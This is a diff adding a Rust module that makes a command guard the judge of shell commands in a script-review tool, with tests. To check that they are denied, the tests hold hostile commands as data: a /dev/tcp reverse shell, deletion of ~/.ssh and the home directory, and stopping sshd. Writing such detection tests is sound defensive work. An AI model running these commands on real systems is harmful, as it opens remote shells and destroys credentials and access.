@@ -1,0 +1,661 @@
+//! The command guard as the script review's [`CommandJudge`]: every command of a shell script
+//! under review is decided by the guard the hook uses (the same parse, the same KG, the user's
+//! layer included), built once and shared with the judge of the command line itself.
+
+use std::sync::{Arc, OnceLock};
+
+use sha2::{Digest, Sha256};
+use terraphim_guard::{Decision, Guard, Part, Tier, Verdict, WordKind};
+use terraphim_script_review::{CommandJudge, CommandTier, CommandVerdict, Context};
+
+use crate::load::{self, KgArgs, UpstreamThesauri};
+
+/// A guard built on first use, and the identity of the KG and profiles it was built from.
+#[derive(Debug)]
+pub(crate) struct GuardCell {
+    kg: KgArgs,
+    upstream: UpstreamThesauri,
+    loaded: OnceLock<Result<Loaded, String>>,
+}
+
+#[derive(Debug)]
+struct Loaded {
+    guard: Guard,
+    identity: String,
+}
+
+impl GuardCell {
+    pub(crate) fn new(kg: KgArgs, upstream: UpstreamThesauri) -> GuardCell {
+        GuardCell {
+            kg,
+            upstream,
+            loaded: OnceLock::new(),
+        }
+    }
+
+    fn loaded(&self) -> Result<&Loaded, &str> {
+        self.loaded
+            .get_or_init(|| {
+                load::guard_with_sources(&self.kg, &self.upstream)
+                    .map(|(guard, sources)| Loaded {
+                        guard,
+                        identity: identity(&sources),
+                    })
+                    .map_err(|e| format!("{e:#}"))
+            })
+            .as_ref()
+            .map_err(String::as_str)
+    }
+
+    /// The guard; an unreadable KG is an error (callers fail closed).
+    pub(crate) fn guard(&self) -> anyhow::Result<&Guard> {
+        self.loaded()
+            .map(|l| &l.guard)
+            .map_err(|e| anyhow::anyhow!("{e}"))
+    }
+}
+
+/// The identity of a guard's sources: this binary's version (the embedded KG and profiles) and
+/// the text of everything loaded on top of them.
+fn identity(sources: &str) -> String {
+    let mut h = Sha256::new();
+    h.update(env!("CARGO_PKG_VERSION").as_bytes());
+    h.update([0]);
+    h.update(sources.as_bytes());
+    h.finalize().iter().map(|b| format!("{b:02x}")).collect()
+}
+
+/// The script review's judge of shell commands: the guard in `cell`.
+#[derive(Debug, Clone)]
+pub(crate) struct ScriptJudge {
+    cell: Arc<GuardCell>,
+}
+
+impl ScriptJudge {
+    pub(crate) fn new(cell: Arc<GuardCell>) -> ScriptJudge {
+        ScriptJudge { cell }
+    }
+
+    /// For the reviewer.
+    pub(crate) fn shared(cell: Arc<GuardCell>) -> Arc<dyn CommandJudge> {
+        Arc::new(ScriptJudge::new(cell))
+    }
+}
+
+impl CommandJudge for ScriptJudge {
+    fn judge(&self, command: &str, ctx: &Context) -> CommandVerdict {
+        let guard = match self.cell.loaded() {
+            Ok(l) => &l.guard,
+            // Fail closed: a command nobody could judge is not clean.
+            Err(e) => {
+                return CommandVerdict {
+                    tier: CommandTier::Opaque,
+                    reason: format!("the command guard could not be loaded: {e}"),
+                    rule: "unavailable".into(),
+                    pattern: None,
+                    operands: Vec::new(),
+                };
+            }
+        };
+        let parsed = terraphim_guard::parse(command);
+        let commands = commands_of(&parsed);
+        let line_findings = parsed.findings.first().map(|f| f.reason());
+        let decision = guard.check_parsed_in(
+            command,
+            Some(parsed),
+            Some(ctx.cwd.as_path()),
+            Some(ctx.home.as_path()),
+        );
+        verdict_of(&decision, &commands, line_findings)
+    }
+
+    /// The lines are parsed and decided as one text (one parse, one pass of the matcher); each
+    /// simple command of the parse is given back to the line its source text is on.
+    fn judge_lines(&self, lines: &[&str], ctx: &Context) -> Vec<CommandVerdict> {
+        if lines.len() < SPLIT_LINES {
+            return self.judge_together(lines, ctx);
+        }
+        // Two halves on two threads: the parse and the decision are most of a long script's
+        // review, and the hook has the second core.
+        let (first, second) = lines.split_at(lines.len() / 2);
+        std::thread::scope(|scope| {
+            let beside = std::thread::Builder::new()
+                .spawn_scoped(scope, || self.judge_together(second, ctx));
+            let mut out = self.judge_together(first, ctx);
+            match beside.map(|t| t.join()) {
+                Ok(Ok(rest)) => out.extend(rest),
+                // No second thread, or it panicked: judge the half here.
+                _ => out.extend(self.judge_together(second, ctx)),
+            }
+            out
+        })
+    }
+
+    fn identity(&self) -> String {
+        match self.cell.loaded() {
+            Ok(l) => l.identity.clone(),
+            Err(e) => format!("unavailable: {e}"),
+        }
+    }
+}
+
+/// From how many lines [`ScriptJudge::judge_lines`] splits the work over two threads.
+const SPLIT_LINES: usize = 16;
+
+impl ScriptJudge {
+    /// [`CommandJudge::judge_lines`] on this thread.
+    fn judge_together(&self, lines: &[&str], ctx: &Context) -> Vec<CommandVerdict> {
+        let Ok(loaded) = self.cell.loaded() else {
+            return lines.iter().map(|l| self.judge(l, ctx)).collect();
+        };
+        let text = lines.join("\n");
+        let parsed = terraphim_guard::parse(&text);
+        if !parsed.findings.is_empty() || text.len() > terraphim_guard::MAX_COMMAND_BYTES {
+            // Something about the text as a whole (a line that does not parse): each line
+            // alone, so one line cannot colour the others.
+            return lines.iter().map(|l| self.judge(l, ctx)).collect();
+        }
+        let mut starts = Vec::with_capacity(lines.len());
+        let mut at = 0;
+        for l in lines {
+            starts.push(at);
+            at += l.len() + 1;
+        }
+        // The line of each simple command: where its text is found, searching on from the line
+        // of the previous one (a command substitution's commands come before the command they
+        // are in, on the same line). A command of the line itself takes an occurrence no other
+        // took (two equal lines are two lines); a nested or derived one (`$(...)`, `find
+        // -exec`) may share its container's. The previous line when the text is not in the
+        // source (code unescaped from a string).
+        let mut line_of = Vec::with_capacity(parsed.commands.len());
+        let mut claimed = std::collections::HashSet::new();
+        let mut line = 0;
+        for c in &parsed.commands {
+            let mut from = starts.get(line).copied().unwrap_or(0);
+            while let Some(found) = text.get(from..).and_then(|rest| rest.find(c.text.as_str())) {
+                let offset = from + found;
+                if c.layers.is_empty() && !claimed.insert(offset) {
+                    from = offset + 1;
+                    continue;
+                }
+                line = starts.partition_point(|&s| s <= offset).saturating_sub(1);
+                break;
+            }
+            line_of.push(line);
+        }
+        let commands = commands_of(&parsed);
+        let decision = loaded.guard.check_parsed_in(
+            &text,
+            Some(parsed),
+            Some(ctx.cwd.as_path()),
+            Some(ctx.home.as_path()),
+        );
+        let mut out = vec![CommandVerdict::allow(); lines.len()];
+        for ((part, command), &l) in decision.parts.iter().zip(&commands).zip(&line_of) {
+            let v = part_verdict(&decision, part, command);
+            if let Some(slot) = out.get_mut(l)
+                && rank(v.tier) > rank(slot.tier)
+            {
+                *slot = v;
+            }
+        }
+        out
+    }
+}
+
+/// The profiles that keep a command's effects in the project and temp dirs (and, for
+/// installs, the package registries).
+fn stays_in_project(profile: &str) -> bool {
+    matches!(
+        profile,
+        terraphim_guard::DEFAULT_PROFILE | "build" | "install"
+    )
+}
+
+/// Whether a structural finding means the guard cannot see what runs. Arithmetic on a
+/// variable (`$((i + 1))`) runs code only when the value holds an array subscript with a command
+/// substitution; in a script the values are mostly the script's own (counters, lengths), so it is
+/// left to the review, which follows them.
+fn hides_what_runs(f: &terraphim_guard::Finding) -> bool {
+    !matches!(f, terraphim_guard::Finding::CodeFromVariable)
+}
+
+/// What the parse says about each simple command.
+fn commands_of(parsed: &terraphim_guard::ParsedCommand) -> Vec<Command> {
+    parsed
+        .commands
+        .iter()
+        .map(|c| Command {
+            opaque: c.findings.iter().any(hides_what_runs),
+            operands: c
+                .words
+                .iter()
+                .skip(1)
+                .filter(|w| matches!(w.kind, WordKind::Operand | WordKind::Redirect))
+                // Text fed on stdin (a heredoc) is data, not a path.
+                .filter(|w| !w.text.contains(char::is_whitespace))
+                .map(|w| w.text.clone())
+                .collect(),
+        })
+        .collect()
+}
+
+/// How strongly a tier counts for a script line: denied over opaque over a rule beyond the
+/// project over a rule in it over a program no rule knows over allowed.
+fn rank(t: CommandTier) -> u8 {
+    match t {
+        CommandTier::Deny => 5,
+        CommandTier::Opaque => 4,
+        CommandTier::Outside => 3,
+        CommandTier::Project => 2,
+        CommandTier::Unknown => 1,
+        CommandTier::Allow => 0,
+    }
+}
+
+/// What one part of the guard's decision means for the script line it is on.
+fn part_verdict(decision: &Decision, part: &Part, command: &Command) -> CommandVerdict {
+    let mut out = CommandVerdict::allow();
+    let matches = || part.matches.iter().filter_map(|&m| decision.matches.get(m));
+    match part.verdict {
+        Verdict::Allow => {}
+        Verdict::Deny => {
+            out.tier = CommandTier::Deny;
+            out.reason.clone_from(&part.reason);
+            // The literal pattern names the danger more exactly than a class pattern, as the
+            // guard's own reason does.
+            let denying: Vec<_> = matches()
+                .filter(|m| m.tier == Tier::Destructive && m.covered_by.is_none())
+                .collect();
+            if let Some(m) = denying
+                .iter()
+                .find(|m| !m.pattern.contains('<'))
+                .or(denying.first())
+            {
+                out.rule.clone_from(&m.concept);
+                out.pattern = Some(m.pattern.clone());
+            }
+        }
+        Verdict::Sandbox => {
+            out.tier = CommandTier::Unknown;
+            out.reason.clone_from(&part.reason);
+            if let Some(m) = matches().find(|m| m.tier == Tier::Suspicious) {
+                let profile = m
+                    .profile
+                    .as_deref()
+                    .unwrap_or(terraphim_guard::DEFAULT_PROFILE);
+                out.tier = if stays_in_project(profile) {
+                    CommandTier::Project
+                } else {
+                    CommandTier::Outside
+                };
+                out.rule.clone_from(&m.concept);
+                out.pattern = Some(m.pattern.clone());
+                out.operands.clone_from(&command.operands);
+            } else if command.opaque {
+                out.tier = CommandTier::Opaque;
+                out.rule = "opaque".into();
+            }
+        }
+    }
+    out
+}
+
+/// What the parse says about one simple command of a line.
+struct Command {
+    /// The parse found something structural about it (a dynamic name or code, a pipe into a
+    /// shell, ...).
+    opaque: bool,
+    /// Its operands and redirect targets, as the guard read them.
+    operands: Vec<String>,
+}
+
+/// What the guard's decision means for a script line: `commands` are the line's simple
+/// commands (the decision's parts, in order), `line_finding` the reason of a finding about the
+/// line as a whole. The strictest part stands (see [`rank`]).
+fn verdict_of(
+    decision: &Decision,
+    commands: &[Command],
+    line_finding: Option<&str>,
+) -> CommandVerdict {
+    let mut out = CommandVerdict::allow();
+    for (i, part) in decision.parts.iter().enumerate() {
+        let v = match commands.get(i) {
+            Some(c) => part_verdict(decision, part, c),
+            None => continue,
+        };
+        if rank(v.tier) > rank(out.tier) {
+            out = v;
+        }
+    }
+    // A part of the KG's replacement of the line: its canonical words are its operands.
+    for part in &decision.replaced_parts {
+        let command = Command {
+            opaque: false,
+            operands: part
+                .canonical
+                .split_whitespace()
+                .skip(1)
+                .map(str::to_owned)
+                .collect(),
+        };
+        let v = part_verdict(decision, part, &command);
+        if rank(v.tier) > rank(out.tier) {
+            out = v;
+        }
+    }
+    if let Some(reason) = line_finding
+        && rank(out.tier) < rank(CommandTier::Opaque)
+    {
+        out = CommandVerdict {
+            tier: CommandTier::Opaque,
+            reason: reason.to_owned(),
+            rule: "opaque".into(),
+            pattern: None,
+            operands: Vec::new(),
+        };
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    #![allow(clippy::unwrap_used, reason = "tests")]
+
+    use super::*;
+    use std::path::Path;
+
+    /// A judge over the default KG alone.
+    fn default_judge() -> ScriptJudge {
+        let cell = GuardCell::new(KgArgs::default(), UpstreamThesauri::default());
+        let guard = Guard::builder().with_default_kg().build().unwrap();
+        cell.loaded
+            .set(Ok(Loaded {
+                guard,
+                identity: String::new(),
+            }))
+            .unwrap();
+        ScriptJudge::new(Arc::new(cell))
+    }
+
+    /// Each line as a script holds it, and what the guard makes of it for the review.
+    #[test]
+    fn script_lines_get_the_guards_tier() {
+        let judge = default_judge();
+        let ctx = Context {
+            cwd: Path::new("/home/dev/proj").to_owned(),
+            home: Path::new("/home/dev").to_owned(),
+            tmp_dirs: vec!["/tmp".into()],
+        };
+        for (command, tier) in [
+            ("rm -rf ~/'.ssh'", CommandTier::Deny),
+            ("echo /home/ci | xargs rm -rf", CommandTier::Deny),
+            ("find ~ -name '*.log' -delete", CommandTier::Deny),
+            ("bash -i >& /dev/tcp/192.0.2.7/4444 0>&1", CommandTier::Deny),
+            ("rm -rf ./dist build", CommandTier::Allow),
+            ("mkdir -p build", CommandTier::Allow),
+            ("frobnicate --all", CommandTier::Unknown),
+            ("find . -name '*.pyc' -delete", CommandTier::Project),
+            ("npm ci", CommandTier::Project),
+            ("cargo install ripgrep", CommandTier::Outside),
+            ("$CC -o build/x x.c", CommandTier::Opaque),
+            ("ls | bash", CommandTier::Opaque),
+            (
+                "echo \"rows: $(($(wc -l < data.csv) - 1))\"",
+                CommandTier::Unknown,
+            ),
+            ("i=$((i + 1))", CommandTier::Allow),
+        ] {
+            let v = judge.judge(command, &ctx);
+            assert_eq!(v.tier, tier, "{command}: {v:?}");
+            match tier {
+                CommandTier::Deny | CommandTier::Outside | CommandTier::Project => {
+                    assert!(
+                        !v.rule.is_empty() && v.pattern.is_some(),
+                        "{command}: {v:?}"
+                    );
+                    assert!(!v.reason.is_empty(), "{command}: {v:?}");
+                }
+                CommandTier::Opaque => assert!(!v.reason.is_empty(), "{command}: {v:?}"),
+                _ => {}
+            }
+        }
+    }
+
+    fn ctx(dir: &Path) -> Context {
+        Context {
+            cwd: dir.join("proj"),
+            home: dir.to_owned(),
+            tmp_dirs: vec!["/tmp".into()],
+        }
+    }
+
+    /// Whole scripts reviewed with the guard as judge: the verdict, and for a flagged script the
+    /// rule and words of the finding on `line` (0: no finding to check).
+    #[test]
+    fn scripts_are_judged_line_by_line_by_the_guard() {
+        use terraphim_script_review::{Config, Language, Verdict, review_source_judged};
+        let judge = default_judge();
+        let ctx = ctx(Path::new("/home/dev"));
+        let config = Config::default();
+        for (lang, script, verdict, line, rule, words) in [
+            // A value the script set, substituted where the guard reads it.
+            (
+                Language::Shell,
+                "#!/bin/sh\nsvc=sshd\nsystemctl stop \"$svc\"\n",
+                Verdict::Dangerous,
+                3,
+                "guard:remote access stop",
+                "cuts remote access",
+            ),
+            // Each value of a loop over a literal list.
+            (
+                Language::Shell,
+                "for t in ./notes.txt /etc/hosts; do\n  chmod 777 \"$t\"\ndone\n",
+                Verdict::Dangerous,
+                2,
+                "guard:delete or change outside the project",
+                "outside the project",
+            ),
+            // A directory named through $HOME in a variable.
+            (
+                Language::Shell,
+                "logs=\"$HOME/.cache/app\"\nfind \"$logs\" -name '*.log' -delete\n",
+                Verdict::Dangerous,
+                2,
+                "guard:delete or change outside the project",
+                "outside the project",
+            ),
+            // A trap handler's commands.
+            (
+                Language::Shell,
+                "trap 'systemctl stop sshd' EXIT\necho hi\n",
+                Verdict::Dangerous,
+                1,
+                "guard:remote access stop",
+                "cuts remote access",
+            ),
+            // Shell code run by a script of another language.
+            (
+                Language::Python,
+                "import subprocess\nsubprocess.run('systemctl stop sshd', shell=True)\n",
+                Verdict::Dangerous,
+                2,
+                "guard:remote access stop",
+                "cuts remote access",
+            ),
+            // Confined beyond the project: suspicious, with the guard's rule.
+            (
+                Language::Shell,
+                "cargo install ripgrep\n",
+                Verdict::Suspicious,
+                1,
+                "guard:cargo install",
+                "outside the project",
+            ),
+            // A build script: deletes and writes in the project and a temp dir, unknown tools,
+            // counters: clean.
+            (
+                Language::Shell,
+                "#!/usr/bin/env bash\nset -euo pipefail\ncd \"$(dirname \"$0\")\"\nrm -rf ./dist build\n\
+                 mkdir -p build dist\nfrobnicate --all --out build/\nwork=$(mktemp -d)\n\
+                 trap 'rm -rf \"$work\"' EXIT\ni=0\nfor f in src/*.txt; do\n  i=$((i + 1))\n  \
+                 cp \"$f\" \"$work/\"\ndone\nfind . -name '*.pyc' -delete\nnpm ci\n\
+                 tar czf dist/site.tgz -C \"$work\" .\necho \"built $i files\"\n",
+                Verdict::Clean,
+                0,
+                "",
+                "",
+            ),
+            // A rule that confines to the project: clean while its operands stay there...
+            (
+                Language::Shell,
+                "unzip -o pkg.zip -d build/pkg\n",
+                Verdict::Clean,
+                0,
+                "",
+                "",
+            ),
+            // ... and not on a path outside it.
+            (
+                Language::Shell,
+                "dest=/opt/pkg\nunzip -o pkg.zip -d \"$dest\"\n",
+                Verdict::Suspicious,
+                2,
+                "guard:archive extract",
+                "would confine",
+            ),
+            // A program whose effects the review classifies itself: its own verdict stands
+            // (a public key is no secret; the guard confines any `*id_ed25519*`).
+            (
+                Language::Shell,
+                "cat ~/.ssh/id_ed25519.pub\n",
+                Verdict::Clean,
+                0,
+                "",
+                "",
+            ),
+        ] {
+            let report = review_source_judged(script, lang, &ctx, &config, Some(&judge));
+            assert_eq!(report.verdict, verdict, "{script}: {report:#?}");
+            if line == 0 {
+                continue;
+            }
+            let f = report
+                .findings
+                .iter()
+                .find(|f| f.line == line)
+                .unwrap_or_else(|| panic!("{script}: no finding on line {line}: {report:#?}"));
+            assert_eq!(f.rule, rule, "{script}: {f:#?}");
+            assert!(f.why.contains(words), "{script}: {f:#?}");
+            assert!(
+                f.chain.first().is_some_and(|c| c.starts_with("guard ")),
+                "{script}: {f:#?}"
+            );
+            // Without the guard, the script's own rules do not see it.
+            let own = terraphim_script_review::review_source(script, lang, &ctx, &config);
+            assert!(
+                !own.findings
+                    .iter()
+                    .any(|g| g.line == line && g.severity >= f.severity),
+                "{script}: {own:#?}"
+            );
+        }
+    }
+
+    /// The user's KG layer judges a script's commands, and a cached verdict is not reused under
+    /// another KG.
+    #[test]
+    fn the_users_kg_judges_and_keys_the_cache() {
+        use terraphim_script_review::{Config, Language, Reviewer, Verdict, VerdictCache};
+        let tmp = tempfile::tempdir().unwrap();
+        let kg = tmp.path().join("kg");
+        fs_err::create_dir_all(kg.join("guard-destructive")).unwrap();
+        fs_err::write(
+            kg.join("guard-destructive").join("frobnicate purge.md"),
+            "# frobnicate purge\n\nsynonyms:: frobnicate --purge\nreason:: purges the shared store\n",
+        )
+        .unwrap();
+        let cell = |dirs: Vec<std::path::PathBuf>| {
+            let args = KgArgs {
+                kg: dirs,
+                no_user_kg: true,
+            };
+            ScriptJudge::shared(Arc::new(GuardCell::new(args, UpstreamThesauri::default())))
+        };
+        let cache = VerdictCache::new(tmp.path().join("cache"));
+        let reviewer = |judge| {
+            Reviewer::new(Config::default())
+                .with_cache(Some(cache.clone()))
+                .with_judge(Some(judge))
+        };
+        let ctx = ctx(tmp.path());
+        let script = "#!/bin/sh\nfrobnicate --purge\n";
+        let plain = reviewer(cell(Vec::new())).review_text(script, Language::Shell, &ctx);
+        assert_eq!(plain.verdict(), Verdict::Clean, "{plain:#?}");
+        assert!(!plain.cached);
+        let again = reviewer(cell(Vec::new())).review_text(script, Language::Shell, &ctx);
+        assert!(again.cached, "the same KG reuses the cached verdict");
+        let user = reviewer(cell(vec![kg])).review_text(script, Language::Shell, &ctx);
+        assert!(!user.cached, "another KG is another key");
+        assert_eq!(user.verdict(), Verdict::Dangerous, "{user:#?}");
+        let f = &user.report.findings[0];
+        assert_eq!(f.rule, "guard:frobnicate purge");
+        assert!(f.why.contains("purges the shared store"), "{f:#?}");
+    }
+
+    /// Lines judged together as one text get the tier each gets alone, on the right line.
+    #[test]
+    fn lines_judged_together_agree_with_lines_judged_alone() {
+        let judge = default_judge();
+        let ctx = ctx(Path::new("/home/dev"));
+        let lines = [
+            "set -euo pipefail",
+            "mkdir -p build",
+            "rm -rf ~/'.ssh'",
+            "frobnicate --all",
+            "echo /home/ci | xargs rm -rf",
+            "npm ci",
+            "cargo install ripgrep",
+            "mkdir -p build",
+            "out=$(git rev-parse HEAD) && echo \"$out\"",
+            "$CC -o build/x x.c",
+            "find . -name '*.pyc' -delete",
+            "systemctl stop sshd",
+            "echo done",
+            "mkdir -p out",
+            "echo \"ok $(date -u +%FT%TZ)\" > out/status.txt",
+            "find . -name '__pycache__' -type d -prune -exec rm -rf {} +",
+            "systemctl stop sshd",
+            "mkdir -p out",
+            "docker build -t app .",
+            "echo \"ok $(date -u +%FT%TZ)\" > out/status.txt",
+            "rm -rf ~/'.ssh'",
+        ];
+        let together = judge.judge_lines(&lines, &ctx);
+        assert_eq!(together.len(), lines.len());
+        for (line, v) in lines.iter().zip(&together) {
+            let alone = judge.judge(line, &ctx);
+            assert_eq!(v.tier, alone.tier, "{line}: {v:?} / {alone:?}");
+            assert_eq!(v.rule, alone.rule, "{line}: {v:?} / {alone:?}");
+        }
+    }
+
+    #[test]
+    fn an_unloadable_kg_fails_closed() {
+        let cell = GuardCell::new(KgArgs::default(), UpstreamThesauri::default());
+        cell.loaded
+            .set(Err("bad KG file x.md line 3".into()))
+            .unwrap();
+        let judge = ScriptJudge::new(Arc::new(cell));
+        let ctx = Context {
+            cwd: "/p".into(),
+            home: "/h".into(),
+            tmp_dirs: Vec::new(),
+        };
+        let v = judge.judge("ls", &ctx);
+        assert_eq!(v.tier, CommandTier::Opaque);
+        assert!(v.reason.contains("x.md line 3"), "{v:?}");
+        assert!(judge.identity().contains("unavailable"));
+    }
+}
